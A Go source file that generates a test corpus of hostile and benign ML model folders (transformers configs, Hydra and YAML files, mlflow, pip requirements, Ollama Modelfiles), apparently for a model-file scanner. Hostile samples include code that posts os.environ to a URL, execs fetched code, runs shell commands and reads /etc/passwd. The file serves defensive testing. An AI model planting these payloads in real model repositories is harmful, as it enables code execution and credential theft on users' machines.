package main

import "strings"

const llamaConfig = `{
  "architectures": ["LlamaForCausalLM"],
  "attention_bias": false,
  "bos_token_id": 1,
  "eos_token_id": 2,
  "hidden_act": "silu",
  "hidden_size": 64,
  "initializer_range": 0.02,
  "intermediate_size": 172,
  "max_position_embeddings": 256,
  "model_type": "llama",
  "num_attention_heads": 4,
  "num_hidden_layers": 2,
  "num_key_value_heads": 4,
  "rms_norm_eps": 1e-05,
  "rope_scaling": null,
  "torch_dtype": "float32",
  "transformers_version": "4.38.1",
  "use_cache": true,
  "vocab_size": 320
}
`

// with adds keys to a configuration.
func with(config, keys string) string {
	return strings.TrimSuffix(strings.TrimSpace(config), "}") + "," + keys + "}"
}

// remote is code that a configuration makes its loader run.
func remote(body string) string {
	return "import torch\nfrom transformers import PretrainedConfig, PreTrainedModel\n\n" + body + "\n\nclass MyConfig(PretrainedConfig):\n    model_type = 'my'\n\n\nclass MyModel(PreTrainedModel):\n    config_class = MyConfig\n\n    def __init__(self, config):\n        super().__init__(config)\n        self.w = torch.nn.Linear(4, 4)\n\n    def forward(self, x):\n        return self.w(x)\n"
}

const autoMap = `"auto_map":{"AutoConfig":"modeling_my.MyConfig","AutoModel":"modeling_my.MyModel"}`

// configs are files of text that loaders act on.
func configs(c *corpus) {
	one := func(class, source, name, text string) { c.hostile("config", class, source, name, []byte(text)) }
	const code2 = "transformers documentation: trust_remote_code; modelaudit manifest tests"
	for _, body := range []string{
		"import os\nos.system('" + cmd + "')", "import subprocess\nsubprocess.run(['echo', '" + word + "'])", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
		"import socket\ns = socket.socket()\ns.connect(('example.org', 4444))", "import urllib.request\nexec(urllib.request.urlopen('" + url + "').read())",
		"import ctypes\nctypes.CDLL('./corpus.so')", "__import__('o' + 's').system('" + cmd + "')", "import requests, os\nrequests.post('" + url + "', json=dict(os.environ))",
	} {
		c.hostileFolder("config", "remote code with an effect", code2, map[string][]byte{"config.json": []byte(with(llamaConfig, autoMap)), "modeling_my.py": []byte(remote(body))})
	}
	c.hostileFolder("config", "remote code in a method", code2, map[string][]byte{"config.json": []byte(with(llamaConfig, autoMap)), "modeling_my.py": []byte(strings.Replace(remote(""), "        super().__init__(config)\n", "        super().__init__(config)\n        __import__('os').popen('"+cmd+"')\n", 1))})
	c.hostileFolder("config", "remote code by an import of its own", code2, map[string][]byte{"config.json": []byte(with(llamaConfig, autoMap)), "modeling_my.py": []byte(remote("from .helper import x")), "helper.py": []byte("import os\nx = os.popen('" + cmd + "').read()\n")})
	one("remote code of another repository", code2, "config.json", with(llamaConfig, `"auto_map":{"AutoModelForCausalLM":"someone/else--modeling_evil.Evil"}`))
	one("remote code of another repository", code2, "tokenizer_config.json", `{"tokenizer_class":"EvilTokenizer","auto_map":{"AutoTokenizer":["someone/else--tokenization_evil.EvilTokenizer",null]}}`)
	one("remote code of another repository", code2, "preprocessor_config.json", `{"image_processor_type":"X","auto_map":{"AutoImageProcessor":"someone/else--image_processing.X"}}`)
	c.hostileFolder("config", "tokenizer code with an effect", code2, map[string][]byte{"tokenizer_config.json": []byte(`{"tokenizer_class":"T","auto_map":{"AutoTokenizer":["tokenization_t.T",null]}}`), "tokenization_t.py": []byte("import os\nos.system('" + cmd + "')\n\nclass T:\n    pass\n")})
	c.hostileFolder("config", "processor code with an effect", code2, map[string][]byte{"preprocessor_config.json": []byte(`{"auto_map":{"AutoProcessor":"processing_t.P"}}`), "processing_t.py": []byte("import subprocess\nsubprocess.call('" + cmd + "', shell=True)\n\nclass P:\n    pass\n")})
	one("kernel of another repository", "CVE-2026-4372 (transformers, _attn_implementation_internal)", "config.json", with(llamaConfig, `"_attn_implementation_internal":"someone/evil-kernel"`))
	one("kernel of another repository", "CVE-2026-4372", "config.json", with(llamaConfig, `"_attn_implementation":"someone/evil-kernel:run"`))
	c.hostileFolder("config", "custom generate code", "transformers custom_generate", map[string][]byte{"config.json": []byte(llamaConfig), "custom_generate/generate.py": []byte("import os\n\ndef generate(model, **kwargs):\n    os.system('" + cmd + "')\n")})
	c.hostileFolder("config", "endpoint handler with an effect", "Hugging Face inference endpoints: handler.py", map[string][]byte{"config.json": []byte(llamaConfig), "handler.py": []byte("import os\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('" + cmd + "')\n")})

	const diffusers = "diffusers documentation: custom pipelines"
	c.hostileFolder("config", "pipeline code with an effect", diffusers, map[string][]byte{"model_index.json": []byte(`{"_class_name":["pipeline","MyPipeline"],"_diffusers_version":"0.27.0","unet":["diffusers","UNet2DModel"]}`), "pipeline.py": []byte("import os\nfrom diffusers import DiffusionPipeline\nos.system('" + cmd + "')\n\nclass MyPipeline(DiffusionPipeline):\n    pass\n")})
	one("pipeline names a module", diffusers, "model_index.json", `{"_class_name":"StableDiffusionPipeline","_diffusers_version":"0.27.0","unet":["os","system"]}`)
	one("pipeline names a module", diffusers, "model_index.json", `{"_class_name":"StableDiffusionPipeline","_diffusers_version":"0.27.0","vae":["subprocess","Popen"]}`)
	one("sentence transformer names a module", "sentence-transformers: modules.json is imported", "modules.json", `[{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"},{"idx":1,"name":"1","path":"1","type":"os.system"}]`)
	one("sentence transformer names a module", "sentence-transformers", "modules.json", `[{"idx":0,"name":"0","path":"../../evil","type":"subprocess.Popen"}]`)
	one("adapter from elsewhere", "PEFT adapter_config", "adapter_config.json", `{"peft_type":"LORA","base_model_name_or_path":"../../../etc","auto_mapping":{"base_model_class":"Popen","parent_library":"subprocess"},"r":8,"target_modules":["q_proj"]}`)

	const hydra = "CVE-2025-23304; Unit 42 on Hydra instantiate (Uni2TS, FlexTok)"
	for _, t := range []string{"os.system", "builtins.exec", "builtins.eval", "subprocess.check_output", "pickle.loads", "importlib.import_module", "builtins.__import__", "shutil.rmtree", "torch.load", "runpy.run_path", "pip.main", "hydra.utils.get_method"} {
		arg := cmd
		switch t { // these take a dotted name, and import it
		case "hydra.utils.get_method":
			arg = "os.system"
		case "importlib.import_module", "builtins.__import__":
			arg = "antigravity"
		}
		one("Hydra target", hydra, []string{"config.yaml", "hparams.yaml", "model.yaml"}[len(t)%3], "model:\n  _target_: "+t+"\n  _args_:\n    - "+arg+"\nlr: 0.1\n")
	}
	one("Hydra target in JSON", hydra, "config.json", `{"model":{"_target_":"os.system","command":"`+cmd+`"}}`)
	one("Hydra partial target", hydra, "config.yaml", "optim:\n  _target_: functools.partial\n  _args_:\n    - ${get_method:os.system}\n    - "+cmd+"\n")
	one("Hydra target in metadata", "Unit 42: FlexTok reads safetensors metadata", "model.safetensors", string(safetensors(`{"__metadata__":{"config":"{\"encoder\": {\"_target_\": \"builtins.exec\", \"_args_\": [\"print(1)\"]}}"},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`, make([]byte, 4))))

	const tags = "PyYAML full and unsafe loaders; CVE-2020-14343"
	for i, t := range []string{
		"!!python/object/apply:os.system [\"" + cmd + "\"]", "!!python/object/new:os.system [\"" + cmd + "\"]", "!!python/object/apply:subprocess.Popen [[echo, x]]", "!!python/name:os.system", "!!python/module:os",
		"!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , [\"" + code + "\"]]]", "!<tag:yaml.org,2002:python/object/apply:posix.system> [\"" + cmd + "\"]", "!!python/object:subprocess.Popen {args: echo}",
	} {
		one("YAML with a Python tag", tags, []string{"config.yaml", "hparams.yaml", "params.yml"}[i%3], "model:\n  name: tiny\n  hook: "+t+"\n")
	}
	one("YAML with a Python tag", tags, "config.yaml", "%TAG ! tag:yaml.org,2002:python/\n---\nhook: !object/apply:os.system [\""+cmd+"\"]\n")
	const hyper = "HyperPyYAML: !new, !apply and !name import what they name"
	for _, t := range []string{"!new:os.system [\"" + cmd + "\"]", "!apply:os.system [\"" + cmd + "\"]", "!apply:builtins.exec [\"print(1)\"]", "!name:subprocess.Popen", "!include:/etc/passwd"} {
		one("SpeechBrain tag", hyper, "hyperparams.yaml", "lr: 0.1\nmodel: "+t+"\n")
	}

	const mlflow = "mlflow documentation; CVE-2024-37052 to 37060"
	c.hostileFolder("config", "mlflow loader module", mlflow, map[string][]byte{"MLmodel": []byte("flavors:\n  python_function:\n    code: code\n    data: data\n    env: conda.yaml\n    loader_module: evil_loader\n"), "code/evil_loader.py": []byte("import os\nos.system('" + cmd + "')\n\ndef _load_pyfunc(path):\n    return None\n")})
	one("mlflow loader module", mlflow, "MLmodel", "flavors:\n  python_function:\n    loader_module: os\n    data: data\n")
	c.hostileFolder("config", "mlflow pickle", mlflow, map[string][]byte{"MLmodel": []byte("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n    pickled_model: model.pkl\n    sklearn_version: 1.2.1\n"), "model.pkl": system()})

	const index = "transformers: shard names of an index"
	for _, at := range []string{"../../../etc/passwd", "/etc/passwd", "http://example.org/evil.safetensors"} {
		one("index points outside", index, "model.safetensors.index.json", `{"metadata":{"total_size":16},"weight_map":{"w":"`+at+`"}}`)
	}
	one("index points outside", index, "pytorch_model.bin.index.json", `{"metadata":{"total_size":16},"weight_map":{"w":"../../evil.bin"}}`)

	const deps = "dependency confusion; pip documentation"
	for _, line := range []string{"--extra-index-url http://example.org/simple\ntorch", "--index-url http://example.org/simple", "git+https://example.org/evil.git#egg=x", "http://example.org/evil-1.0-py3-none-any.whl", "--trusted-host example.org\ntorch==2.0", "-e git+http://example.org/x.git#egg=x", "torch @ https://example.org/torch.whl"} {
		c.hostileFolder("config", "requirements from elsewhere", deps, map[string][]byte{"config.json": []byte(llamaConfig), "requirements.txt": []byte("numpy==1.26.4\n" + line + "\n")})
	}
	c.hostileFolder("config", "setup with an effect", "pip runs setup.py", map[string][]byte{"config.json": []byte(llamaConfig), "setup.py": []byte("import os\nfrom setuptools import setup\nos.system('" + cmd + "')\nsetup(name='x')\n")})
	one("Modelfile from elsewhere", "Ollama Modelfile; CVE-2024-37032", "Modelfile", "FROM ../../../../etc/passwd\nTEMPLATE \"{{ .Prompt }}\"\n")
	one("Modelfile from elsewhere", "Ollama Modelfile", "Modelfile", "FROM http://example.org/model.gguf\n")
}

// benignConfigs are configurations of common architectures and recipes.
func benignConfigs(c *corpus) {
	kinds := []struct{ model, class string }{{"llama", "LlamaForCausalLM"}, {"mistral", "MistralForCausalLM"}, {"qwen2", "Qwen2ForCausalLM"}, {"gemma", "GemmaForCausalLM"}, {"bert", "BertForMaskedLM"}, {"gpt2", "GPT2LMHeadModel"}, {"t5", "T5ForConditionalGeneration"}, {"whisper", "WhisperForConditionalGeneration"}, {"vit", "ViTForImageClassification"}, {"clip", "CLIPModel"}}
	for i, k := range kinds {
		config := strings.Replace(strings.Replace(llamaConfig, "LlamaForCausalLM", k.class, 1), `"llama"`, `"`+k.model+`"`, 1)
		files := map[string][]byte{"config.json": []byte(config), "generation_config.json": []byte(`{"_from_model_config":true,"bos_token_id":1,"eos_token_id":2,"transformers_version":"4.38.1"}`)}
		switch i % 5 {
		case 0:
			files["tokenizer.json"] = []byte(`{"version":"1.0","truncation":null,"padding":null,"added_tokens":[{"id":0,"content":"<unk>","single_word":false,"lstrip":false,"rstrip":false,"normalized":false,"special":true}],"normalizer":{"type":"Sequence","normalizers":[{"type":"Prepend","prepend":"_"}]},"pre_tokenizer":null,"post_processor":null,"decoder":{"type":"Fuse"},"model":{"type":"BPE","dropout":null,"unk_token":"<unk>","continuing_subword_prefix":null,"end_of_word_suffix":null,"fuse_unk":true,"byte_fallback":true,"vocab":{"<unk>":0,"a":1},"merges":[]}}`)
			files["special_tokens_map.json"] = []byte(`{"bos_token":"<s>","eos_token":"</s>","unk_token":"<unk>"}`)
		case 1:
			files["model.safetensors"] = safetensors(`{"__metadata__":{"format":"pt"},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`, make([]byte, 4))
			files["model.safetensors.index.json"] = []byte(`{"metadata":{"total_size":4},"weight_map":{"w":"model.safetensors"}}`)
		case 2:
			files["requirements.txt"] = []byte("transformers==4.38.1\ntorch>=2.1\nnumpy~=1.26\n# honest\n")
			files["README.md"] = []byte("---\nlicense: apache-2.0\nlibrary_name: transformers\npipeline_tag: text-generation\n---\n# A model\n")
		case 3:
			files["config.json"] = []byte(with(config, autoMap))
			files["modeling_my.py"] = []byte(remote("import math\nfrom typing import Optional"))
		case 4:
			files["vocab.txt"] = []byte("[PAD]\n[UNK]\nhello\n")
			files["preprocessor_config.json"] = []byte(`{"do_normalize":true,"do_resize":true,"image_mean":[0.5,0.5,0.5],"image_processor_type":"ViTImageProcessor","image_std":[0.5,0.5,0.5],"size":{"height":224,"width":224}}`)
		}
		c.benignFolder("config", "model folder", files)
	}
	honest := map[string]map[string][]byte{
		"diffusers folder":      {"model_index.json": []byte(`{"_class_name":"StableDiffusionPipeline","_diffusers_version":"0.27.0","unet":["diffusers","UNet2DConditionModel"],"text_encoder":["transformers","CLIPTextModel"],"scheduler":["diffusers","PNDMScheduler"],"safety_checker":[null,null],"requires_safety_checker":false}`), "scheduler/scheduler_config.json": []byte(`{"_class_name":"PNDMScheduler","_diffusers_version":"0.27.0","beta_end":0.012}`), "unet/config.json": []byte(`{"_class_name":"UNet2DConditionModel","sample_size":64}`)},
		"sentence transformers": {"modules.json": []byte(`[{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"},{"idx":1,"name":"1","path":"1_Pooling","type":"sentence_transformers.models.Pooling"}]`), "1_Pooling/config.json": []byte(`{"word_embedding_dimension":64,"pooling_mode_mean_tokens":true}`), "config.json": []byte(llamaConfig), "config_sentence_transformers.json": []byte(`{"__version__":{"sentence_transformers":"2.2.2"}}`)},
		"adapter":               {"adapter_config.json": []byte(`{"peft_type":"LORA","base_model_name_or_path":"example/tiny","r":8,"lora_alpha":16,"target_modules":["q_proj","v_proj"],"task_type":"CAUSAL_LM","auto_mapping":null}`)},
		"mlflow model":          {"MLmodel": []byte("artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.json\n    python_version: 3.11.2\nmlflow_version: 2.9.2\n"), "conda.yaml": []byte("channels:\n- conda-forge\ndependencies:\n- python=3.11.2\n- pip\n")},
		"Hydra recipe":          {"config.yaml": []byte("model:\n  _target_: torch.nn.Linear\n  in_features: 4\n  out_features: 2\noptim:\n  _target_: torch.optim.Adam\n  lr: 0.001\ndefaults:\n- _self_\n"), "config.json": []byte(llamaConfig)},
		"SpeechBrain recipe":    {"hyperparams.yaml": []byte("sample_rate: 16000\nemb_dim: 192\nembedding_model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    input_size: 80\n    lin_neurons: !ref <emb_dim>\n")},
		"Modelfile":             {"Modelfile": []byte("FROM ./model.gguf\nTEMPLATE \"\"\"{{ .System }} {{ .Prompt }}\"\"\"\nPARAMETER temperature 0.7\n"), "model.gguf": gguf(ggufModel()...)},
		"training recipe":       {"config.yaml": []byte("base_model: example/tiny\nadapter: lora\ndatasets:\n  - path: data.jsonl\n    type: alpaca\nlearning_rate: 0.0002\n"), "config.json": []byte(llamaConfig)},
	}
	for _, class := range sorted(honest) {
		c.benignFolder("config", class, honest[class])
	}
}
